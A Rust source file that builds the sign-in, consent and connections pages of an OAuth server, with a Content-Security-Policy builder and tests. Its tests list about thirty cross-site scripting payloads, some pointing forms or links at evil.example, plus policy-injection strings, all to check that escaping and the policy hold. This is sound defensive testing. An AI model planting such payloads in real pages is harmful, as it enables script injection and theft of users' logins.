//! The pages of the authorization server: sign in, consent, connected applications, problems.
//!
//! Plain forms without a script; askama escapes every value. The one style sheet is part of each
//! page and allowed by its hash, so [`policy`] lets a page fetch nothing but the logos shown on it.

use std::sync::LazyLock;

use askama::Template;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use sha2::{Digest, Sha256};
use url::Url;

/// What stands between `<style>` and `</style>`: the hash is over these bytes.
const STYLE: &str = include_str!("pages/style.css");

/// One scope on the consent page.
#[derive(Debug, Clone, Copy)]
pub struct ScopeLine<'a> {
    /// The scope value.
    pub name: &'a str,
    /// What it allows, to follow "it may".
    pub description: Option<&'a str>,
}

/// One connected application.
#[derive(Debug, Clone)]
pub struct Connection<'a> {
    /// The client id, sent back as `client`.
    pub client: &'a str,
    /// The application's name.
    pub name: &'a str,
    /// Who makes it.
    pub provider: Option<&'a str>,
    /// URL of its logo.
    pub logo: Option<&'a str>,
    /// What it may do.
    pub scopes: Vec<ScopeLine<'a>>,
    /// Since when, as the user reads it.
    pub since: String,
}

/// The way to sign in external_login.
#[derive(Debug, Clone)]
pub struct ExternalLogin<'a> {
    /// Name of the provider.
    pub name: &'a str,
    /// Our own URL that leads there, never one that others chose: it becomes a link.
    pub link: String,
}

/// Asks for username and password: `username`, `password`, `form_token`; `act` is `login`.
#[derive(Template)]
#[template(path = "login.html")]
pub struct Login<'a> {
    /// The application the user is on the way to.
    pub application: &'a str,
    /// Who makes it.
    pub provider: Option<&'a str>,
    /// URL of its logo.
    pub logo: Option<&'a str>,
    /// Where the form goes.
    pub action: &'a str,
    /// Ties the form to the browser that asked for it.
    pub token: &'a str,
    /// What the user typed before, or nothing.
    pub username: &'a str,
    /// Why the last try failed.
    pub problem: Option<&'a str>,
    /// The provider that users may sign in at.
    pub external_login: Option<ExternalLogin<'a>>,
    /// Whether there are users with a password.
    pub passwords: bool,
}

/// Asks whether an application may act for the user: `form_token`; `act` is `allow`, `deny` or
/// `logout`.
#[derive(Template)]
#[template(path = "consent.html")]
pub struct Consent<'a> {
    /// The application that asks.
    pub application: &'a str,
    /// Who makes it.
    pub provider: Option<&'a str>,
    /// URL of its logo.
    pub logo: Option<&'a str>,
    /// Who is signed in.
    pub user: &'a str,
    /// Where the forms go.
    pub action: &'a str,
    /// Ties the forms to the browser that asked for them.
    pub token: &'a str,
    /// What it asks for.
    pub scopes: &'a [ScopeLine<'a>],
    /// Host or scheme that the user is sent back to.
    pub returns_to: &'a str,
    /// Our own URL of the connected applications, never one a client chose: it becomes a link.
    pub connections: &'a str,
}

/// Lists the applications with access: `client`, `form_token`; `act` is `disconnect` or `logout`.
#[derive(Template)]
#[template(path = "connections.html")]
pub struct Connections<'a> {
    /// Who is signed in.
    pub user: &'a str,
    /// Where the forms go.
    pub action: &'a str,
    /// Ties the forms to the browser that asked for them.
    pub token: &'a str,
    /// The applications.
    pub connections: &'a [Connection<'a>],
    /// What the last form did.
    pub done: Option<&'a str>,
}

/// Says why the user cannot go on.
#[derive(Template)]
#[template(path = "problem.html")]
pub struct Problem<'a> {
    /// What is wrong, in a few words.
    pub title: &'a str,
    /// What the user can do.
    pub advice: &'a str,
    /// What the developer of the application needs to know.
    pub detail: &'a str,
    /// The decision id.
    pub decision: &'a str,
    /// Another try at the provider, as somebody else.
    pub external_login: Option<ExternalLogin<'a>>,
}

/// The style sheet as a source of a Content-Security-Policy.
#[must_use]
pub fn style_source() -> &'static str {
    static SOURCE: LazyLock<String> =
        LazyLock::new(|| format!("'sha256-{}'", STANDARD.encode(Sha256::digest(STYLE.as_bytes()))));
    &SOURCE
}

/// The Content-Security-Policy of a page.
///
/// `logos` are the URLs of the logos on it; their origins may be fetched. `form_target` is the
/// origin or the scheme that the answer to a form may redirect to, since browsers hold redirects to
/// `form-action` as well. Anything else in either is left out. Chromium knows no IPv6 addresses in
/// a policy: it stops a redirect to `http://[::1]`.
#[must_use]
pub fn policy(logos: &[&str], form_target: Option<&str>) -> String {
    let mut policy = format!("default-src 'none'; style-src {}", style_source());
    let mut origins: Vec<String> = logos.iter().filter_map(|logo| origin(logo)).collect();
    origins.sort_unstable();
    origins.dedup();
    if !origins.is_empty() {
        policy.push_str(&format!("; img-src {}", origins.join(" ")));
    }
    policy.push_str("; form-action 'self'");
    if let Some(target) = form_target.and_then(|target| origin(target).or_else(|| scheme(target))) {
        policy.push_str(&format!(" {target}"));
    }
    policy.push_str("; frame-ancestors 'none'; base-uri 'none'");
    policy
}

/// The origin of an http(s) URL, if it can stand in a policy: hosts may contain `;`, `,` and `*`,
/// which mean something there.
fn origin(text: &str) -> Option<String> {
    let url = Url::parse(text).ok().filter(|url| matches!(url.scheme(), "http" | "https"))?;
    let plain =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '[' | ']');
    url.host_str()?.chars().all(plain).then(|| url.origin().ascii_serialization())
}

/// A scheme alone, with or without its colon, as a source. Those that would allow every site, or
/// content of the page's own making, are none.
fn scheme(text: &str) -> Option<String> {
    const TOO_WIDE: [&str; 12] = [
        "http",
        "https",
        "ws",
        "wss",
        "ftp",
        "file",
        "filesystem",
        "data",
        "blob",
        "about",
        "javascript",
        "vbscript",
    ];
    let name = text.strip_suffix(':').unwrap_or(text).to_ascii_lowercase();
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '+');
    let is_scheme = name.starts_with(|c: char| c.is_ascii_alphabetic()) && name.chars().all(plain);
    (is_scheme && !TOO_WIDE.contains(&name.as_str())).then(|| format!("{name}:"))
}

/// Stands in for a logo.
fn initial(name: &str) -> String {
    name.chars().find(|c| c.is_alphanumeric()).into_iter().flat_map(char::to_uppercase).collect()
}

#[cfg(test)]
mod tests {
    use std::cell::RefCell;
    use std::collections::BTreeSet;

    use super::*;

    /// Every page in every form, with the text that `of` gives for each dynamic field.
    fn pages(of: &dyn Fn(&'static str) -> String) -> Vec<String> {
        let (application, provider, logo) = (of("application"), of("provider"), of("logo"));
        let (action, token, user) = (of("action"), of("token"), of("user"));
        let (username, problem, back, link) =
            (of("username"), of("problem"), of("returns_to"), of("connections"));
        let (client, name, done) = (of("client"), of("connection.name"), of("done"));
        let external_login = of("elsewhere");
        let (scope, description) = (of("scope"), of("scope.description"));
        let (title, advice, detail, decision) =
            (of("title"), of("advice"), of("detail"), of("decision"));
        let mut pages = Vec::new();
        let scopes = [
            ScopeLine { name: &scope, description: Some(&description) },
            ScopeLine { name: &scope, description: None },
        ];
        for full in [true, false] {
            let (provider, logo) =
                (full.then_some(provider.as_str()), full.then_some(logo.as_str()));
            let scopes = if full { scopes.as_slice() } else { &[] };
            let login = Login {
                application: &application,
                provider,
                logo,
                action: &action,
                token: &token,
                username: if full { &username } else { "" },
                problem: full.then_some(&problem),
                external_login: full.then(|| ExternalLogin {
                    name: &external_login,
                    link: of("external_login.link"),
                }),
                passwords: full,
            };
            let consent = Consent {
                application: &application,
                provider,
                logo,
                user: &user,
                action: &action,
                token: &token,
                scopes,
                returns_to: &back,
                connections: &link,
            };
            let (scopes, since) = (scopes.to_vec(), of("since"));
            let connection =
                Connection { client: &client, name: &name, provider, logo, scopes, since };
            let list = [connection.clone(), connection];
            let none = Connections {
                user: &user,
                action: &action,
                token: &token,
                connections: &[],
                done: None,
            };
            let some = Connections { connections: &list, done: full.then_some(&done), ..none };
            let texts = [login.render(), consent.render(), some.render(), none.render()];
            pages.extend(texts.map(Result::unwrap));
        }
        let external_login =
            Some(ExternalLogin { name: &external_login, link: of("elsewhere.link") });
        let problem = Problem {
            title: &title,
            advice: &advice,
            detail: &detail,
            decision: &decision,
            external_login,
        };
        pages.push(problem.render().unwrap());
        pages
    }

    fn fields() -> BTreeSet<&'static str> {
        let seen = RefCell::default();
        pages(&|field| {
            RefCell::<BTreeSet<_>>::borrow_mut(&seen).insert(field);
            String::new()
        });
        seen.into_inner()
    }

    const PAYLOADS: [&str; 30] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</main></body></html><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" onerror=\"alert(1)",
        "' onerror='alert(1)",
        "\" autofocus onfocus=\"alert(1)\" x=\"",
        "\"/><svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<form action=\"https://evil.example/\"><input name=password>",
        "\" formaction=\"https://evil.example/",
        "</form><form action=//evil.example>",
        "<!--",
        "--><script>alert(1)</script><!--",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "{{7*7}}{% include \"style.css\" %}<b>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<textarea autofocus onfocus=alert(1)>\u{0}",
        "\u{202e}\"\u{2028}<\u{ff1c}script\u{ff1e}>",
    ];

    fn escaped(text: &str) -> String {
        let one = |c: char| match c {
            '"' | '&' | '\'' | '<' | '>' => format!("&#{};", u32::from(c)),
            other => other.to_string(),
        };
        text.chars().map(one).collect()
    }

    #[test]
    fn no_value_becomes_markup() {
        let fields = fields();
        assert!(fields.len() >= 18, "{fields:?}");
        let harmless = pages(&|_| "x".to_owned());
        for field in fields {
            for payload in PAYLOADS {
                let hostile = pages(&|other| if other == field { payload } else { "x" }.to_owned());
                for (hostile, harmless) in hostile.iter().zip(&harmless) {
                    for mark in ['<', '>', '"', '\''] {
                        let count = |page: &str| page.matches(mark).count();
                        assert_eq!(
                            count(hostile),
                            count(harmless),
                            "{field}: {payload}\n{hostile}"
                        );
                    }
                }
                assert!(
                    hostile.iter().any(|page| page.contains(&escaped(payload))),
                    "{field}: {payload}"
                );
                assert!(hostile.iter().all(|page| !page.contains(payload)), "{field}: {payload}");
            }
        }
        let templates =
            std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/src/server/oauth/pages"))
                .unwrap();
        let text: String =
            templates.map(|file| std::fs::read_to_string(file.unwrap().path()).unwrap()).collect();
        assert_eq!(text.matches("safe }}").count(), 1, "the style alone is not escaped");
        assert_eq!(text.matches("|safe").count(), 1, "the style alone is not escaped");
    }

    #[test]
    fn the_hash_is_of_the_style_in_the_page() {
        for page in pages(&str::to_owned) {
            let (before, rest) = page.split_once("<style>").unwrap();
            let (style, after) = rest.split_once("</style>").unwrap();
            assert_eq!(
                style_source(),
                format!("'sha256-{}'", STANDARD.encode(Sha256::digest(style)))
            );
            assert!(
                !after.contains("<style")
                    && !before.contains("<style")
                    && !page.contains(" style="),
                "{page}"
            );
        }
        // Browsers would hash other bytes (line ends) or need more than the hash (fetches).
        for part in ["\r", "<", "url(", "@import", "\\"] {
            assert!(!STYLE.contains(part), "{part:?}");
        }
    }

    #[test]
    fn every_form_is_posted_with_the_token() {
        for page in pages(&str::to_owned) {
            for form in page.split("<form").skip(1) {
                let (form, _) = form.split_once("</form>").unwrap();
                let (tag, fields) = form.split_once('>').unwrap();
                assert!(
                    tag.contains("method=\"post\"") && tag.contains("action=\"action\""),
                    "{tag}"
                );
                assert!(
                    fields.contains(r#"<input type="hidden" name="form_token" value="token">"#),
                    "{fields}"
                );
                assert!(fields.contains("type=\"submit\" name=\"act\""), "{fields}");
            }
            assert_eq!(page.matches("<button").count(), page.matches("name=\"act\"").count());
            assert!(!page.contains("<script") && page.contains("<html lang=\"en\">"));
        }
    }

    #[test]
    fn pages_say_what_matters() {
        let pages = pages(&str::to_owned);
        let has = |page: usize, texts: &[&str]| {
            for text in texts {
                assert!(pages[page].contains(text), "{text}\n{}", pages[page]);
            }
        };
        let again = "aria-invalid=\"true\" aria-describedby=\"problem\"";
        has(
            0,
            &[
                "<title>Problem: Sign in to continue to application</title>",
                "id=\"problem\" role=\"alert\"",
                again,
            ],
        );
        has(
            0,
            &[
                "autocomplete=\"username\"",
                "autocomplete=\"current-password\"",
                "<label for=\"password\">",
            ],
        );
        has(
            1,
            &[
                "<title>Allow application to use your account?</title>",
                "href=\"connections\"",
                "returns_to",
            ],
        );
        has(
            1,
            &[
                "value=\"allow\"",
                "value=\"deny\"",
                "value=\"logout\"",
                "referrerpolicy=\"no-referrer\"",
            ],
        );
        has(
            2,
            &[
                "role=\"status\"",
                "name=\"client\" value=\"client\"",
                "value=\"disconnect\"",
                "Connected since since",
            ],
        );
        has(3, &["No application has access", "value=\"logout\""]);
        has(
            4,
            &["<title>Sign in to continue to application</title>", "aria-hidden=\"true\">A</span>"],
        );
        has(5, &["It asks for no permissions."]);
        has(6, &["It has no permissions"]);
        has(8, &["<h1>title</h1>", "advice", "detail", "<code>decision</code>"]);
        assert!(!pages[4].contains("role=\"alert\"") && !pages[4].contains(again), "{}", pages[4]);
    }

    #[test]
    fn the_policy_names_origins_and_nothing_else() {
        let logos = [
            "https://cdn.example/a.png?x=1",
            "https://cdn.example/b.png",
            "HTTP://u:p@Logo.Example:8080/l#f",
        ];
        assert_eq!(
            policy(&logos, Some("https://app.example/callback?x=1")),
            format!(
                "default-src 'none'; style-src {}; img-src http://logo.example:8080 \
                    https://cdn.example; \
                 form-action 'self' https://app.example; frame-ancestors 'none'; base-uri 'none'",
                style_source()
            )
        );
        let bare = policy(&[], None);
        assert!(!bare.contains("img-src") && bare.contains("; form-action 'self'; "), "{bare}");
        for (target, source) in [
            ("http://127.0.0.1:49152", "http://127.0.0.1:49152"),
            ("com.example.app", "com.example.app:"),
            ("com.Example.App:", "com.example.app:"),
        ] {
            assert!(
                policy(&[], Some(target)).contains(&format!("; form-action 'self' {source}; ")),
                "{target}"
            );
        }
        for refused in [
            "",
            "*",
            ":",
            "'self'",
            "'unsafe-inline'",
            "https",
            "https:",
            "http:",
            "https://",
            "https://*",
            "/logo.png",
            "//cdn.example/a.png",
            "data:",
            "data:image/png;base64,AA==",
            "javascript:",
            "javascript:alert(1)",
            "blob:",
            "file:///etc/passwd",
            "https://a;script-src/x",
            "https://a,b.example/",
            "https://*.example/",
            "https://'self'/",
            "com.example.app:/callback",
            "com.example.app; script-src *",
            "1app:",
            "app: x",
            "blob:https://cdn.example/1",
            "ftp://cdn.example/a.png",
            "app\n",
        ] {
            assert_eq!(policy(&[refused], Some(refused)), bare, "{refused}");
        }
    }
}
